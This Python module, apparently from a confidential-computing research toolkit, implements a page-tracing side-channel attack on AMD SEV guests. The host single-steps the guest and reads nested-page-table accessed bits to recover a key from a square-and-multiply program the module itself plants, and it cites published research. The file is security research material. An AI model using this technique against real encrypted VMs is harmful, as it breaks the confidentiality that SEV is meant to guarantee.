"""Page tracing with single steps: the pages that a guest touches reveal what it does, in every mode."""

import secrets as randomness

from sevkit.attacks.experiment import Aim, Attack, Expectation, Notebook, Observation, Outcome, Source
from sevkit.attacks.labs import model_lab, program
from sevkit.attacks.labs.guest_lab import GuestLab
from sevkit.errors import InconclusiveError
from sevkit.model.vcpu import Vcpu
from sevkit.vocabulary import Level, Mode

_KEY = 0b11010010
# Square and multiply: the page of the multiplication is touched only for the 1 bits of the key.
_PROGRAM = """
    movi rsi, 0x2000
    load rbx, [rsi]
    movi rdi, 0x3000
    movi rbp, 0x5000
    movi r10, 1
turn:
    store [rdi], rax        ; square
    mov r9, rbx
    and r9, r10
    jz zero
    store [rbp], rax        ; multiply
zero:
    shr rbx, 1
    jmp turn
"""


def model(note: Notebook) -> Observation:
    """Step through a guest one instruction at a time and log the pages it touches."""
    note.setup(
        "A guest works through a key; for a one it also multiplies, on a page of its own (0x5000).", f"{_KEY:08b}"
    )
    platform = model_lab.machine(note)
    guest = model_lab.guest(note, platform, program=_PROGRAM)
    guest.vm.write(model_lab.DATA, _KEY.to_bytes(8, "little"))
    note.predict("The accessed bits of the nested tables are the host's to read: the sequence of pages is the key.")

    cpu, trace = Vcpu(guest), []
    for _ in range(200):
        guest.vm.npt.clear_accessed()
        guest.vm.flush_tlb()
        cpu.run(limit=1)
        trace += sorted(page for page in guest.vm.npt.touched() if page in (model_lab.OTHER, 0x5000))
    squares = [n for n, page in enumerate(trace) if page == model_lab.OTHER][:8]
    bits = [int(n + 1 < len(trace) and trace[n + 1] == 0x5000) for n in squares]
    guess = sum(bit << n for n, bit in enumerate(bits))
    note.host(
        "The host steps with its timer and logs the pages.",
        " ".join("S" if p == model_lab.OTHER else "M" for p in trace[:13]),
    )
    note.host("Read as a key:", f"{guess:08b}")
    if guess == _KEY:
        return note.works("npt-accessed-bits", "The key is known, and no byte of it was ever read.")
    return note.stopped("unknown", "The trace does not show the key.")


# Rounds to compare: more while several rhythms could be the key's.
_BITS, _ROUNDS, _MOST_ROUNDS = 8, 3, 10
_ASK = "echo >/root/sevkit-signer.requests; read -r answer </root/sevkit-signer.answers"
_SQUARE, _MULTIPLY = program.DATA + 0x1000, program.DATA + 0x2000


def guest(lab: GuestLab, note: Notebook) -> Observation:
    """Trace the pages of a real guest while a program works through its key, one bit per request."""
    key = _random_key()
    note.setup(f"A program in a real guest ({lab.guest.spec.mode}) works through a key, one bit for each request.")
    note.predict("A page that is touched exactly for the ones of the key gives the key away, encrypted or not.")
    program.start(lab, "signer", _signer(key), pages=3, requests=True)
    try:
        rounds = _observe(lab)
    finally:
        lab.host.command("page-trace", enable=False)
        lab.qemu.resume()
        program.stop(lab, "signer")
    patterns = _periodic(rounds)
    note.host(f"The host sends {_BITS * len(rounds)} requests and logs the pages that each one touches.")
    note.host(
        "Pages that come back in the same rhythm in every round, by rhythm:",
        ", ".join(f"{pattern:0{_BITS}b}: {len(pages)}" for pattern, pages in patterns.items()) or "none",
    )
    if len(patterns) != 1:
        raise InconclusiveError(f"{len(patterns)} different rhythms were seen: the host cannot tell which is the key")
    (guess,) = patterns
    if guess == key:
        pages = ", ".join(f"{page:#x}" for page in sorted(patterns[guess]))
        note.guest("The key is:", f"{key:0{_BITS}b}")
        return note.works("npt-accessed-bits", f"The key is known from guest-physical {pages}; no byte of it was read.")
    raise InconclusiveError("the rhythm that was seen is not the key's")


def _observe(lab: GuestLab) -> list[list[set[int]]]:
    """The pages touched for each request of each round, until one rhythm is left.

    A round is left out if the host's log was full for one of its requests, as on a busy machine.
    """
    lab.guest.run(f"for n in $(seq {_BITS}); do {_ASK}; done")  # a first round makes the pages exist
    lab.qemu.pause()
    lab.host.touched()
    rounds: list[list[set[int]]] = []
    for _ in range(_MOST_ROUNDS):
        seen = [_request(lab) for _ in range(_BITS)]
        whole = [touched for touched in seen if touched is not None]
        rounds += [whole] if len(whole) == _BITS else []
        if len(rounds) >= _ROUNDS and len(_periodic(rounds)) <= 1:
            return rounds
    if len(rounds) < _ROUNDS:
        raise InconclusiveError(f"the host's log of touches was full in all but {len(rounds)} of {_MOST_ROUNDS} rounds")
    return rounds


def _random_key() -> int:
    """Three to five ones among the bits: a page that noise touches once in a round cannot look like the key."""
    while not 3 <= (key := randomness.randbits(_BITS)).bit_count() <= 5:
        pass
    return key


def _request(lab: GuestLab) -> set[int] | None:
    """The pages that the guest touches while it answers one request; None if the host's log was full.

    The guest is stopped before and after, so that the log has little else.
    """
    lab.qemu.resume()
    lab.guest.run(_ASK)
    lab.qemu.pause()
    return lab.host.touched()


def _periodic(rounds: list[list[set[int]]]) -> dict[int, set[int]]:
    """The pages touched for the same requests of every round, for at least two but not for all; by these requests.

    Request number n is bit n of the key of the result.
    """
    found: dict[int, set[int]] = {}
    for page in set().union(*rounds[0]):
        seen = {sum((page in touched) << bit for bit, touched in enumerate(each)) for each in rounds}
        pattern = seen.pop()
        if not seen and 2 <= pattern.bit_count() < _BITS:
            found.setdefault(pattern, set()).add(page)
    return found


def _signer(key: int) -> bytes:
    """Machine code: for each byte that it reads, touch SQUARE, and MULTIPLY too if the next bit of the key is 1.

    It answers with the byte.

    mov r12d, key; xor r13d, r13d; next: xor eax, eax; xor edi, edi; mov esi, DATA; mov edx, 1; syscall (read);
    cmp eax, 1; jne end; mov ebx, SQUARE; inc qword [rbx]; bt r12d, r13d; jnc zero; mov ebx, MULTIPLY; inc qword [rbx];
    zero: inc r13d; and r13d, 7; mov eax, 1; mov edi, 1; mov esi, DATA; mov edx, 1; syscall (write);
    jmp next; end: xor edi, edi; mov eax, 60; syscall (exit)
    """

    def number(value: int) -> str:
        return value.to_bytes(4, "little").hex()

    read = f"31c0 31ff be{number(program.DATA)} ba01000000 0f05 83f801 7535"
    square = f"bb{number(_SQUARE)} 48ff03 450fa3ec 7308"
    multiply = f"bb{number(_MULTIPLY)} 48ff03"
    step = f"41ffc5 4183e507 b801000000 bf01000000 be{number(program.DATA)} ba01000000 0f05 ebb6"
    end = "31ff b83c000000 0f05"
    return bytes.fromhex(f"41bc{number(key)} 4531ed {read} {square} {multiply} {step} {end}")


_WORKS = Expectation(Outcome.WORKS, "the host owns nested tables and timer")
ATTACK = Attack(
    name="page-trace",
    title="Page tracing with single steps",
    aim=Aim.CONFIDENTIALITY,
    summary="The host steps the guest with its timer and logs which pages each instruction touches.",
    preconditions=("control flow or data access that depends on the secret",),
    generations="all",
    sources=(
        Source(
            "Wilke et al., SEV-Step: A Single-Stepping Framework for AMD-SEV, TCHES 2024",
            "https://github.com/sev-step/sev-step",
        ),
        Source("Morbitzer et al., Extracting Secrets from Encrypted Virtual Machines, CODASPY 2019"),
    ),
    expected=dict.fromkeys(Mode, _WORKS),
    mitigations=(),
    mitigated=None,
    claim="page-channels",
    model=model,
    guest=guest,
    guest_levels=frozenset({Level.EMULATOR}),
    guest_modes=(Mode.SEV_ES, Mode.SEV_SNP),
)
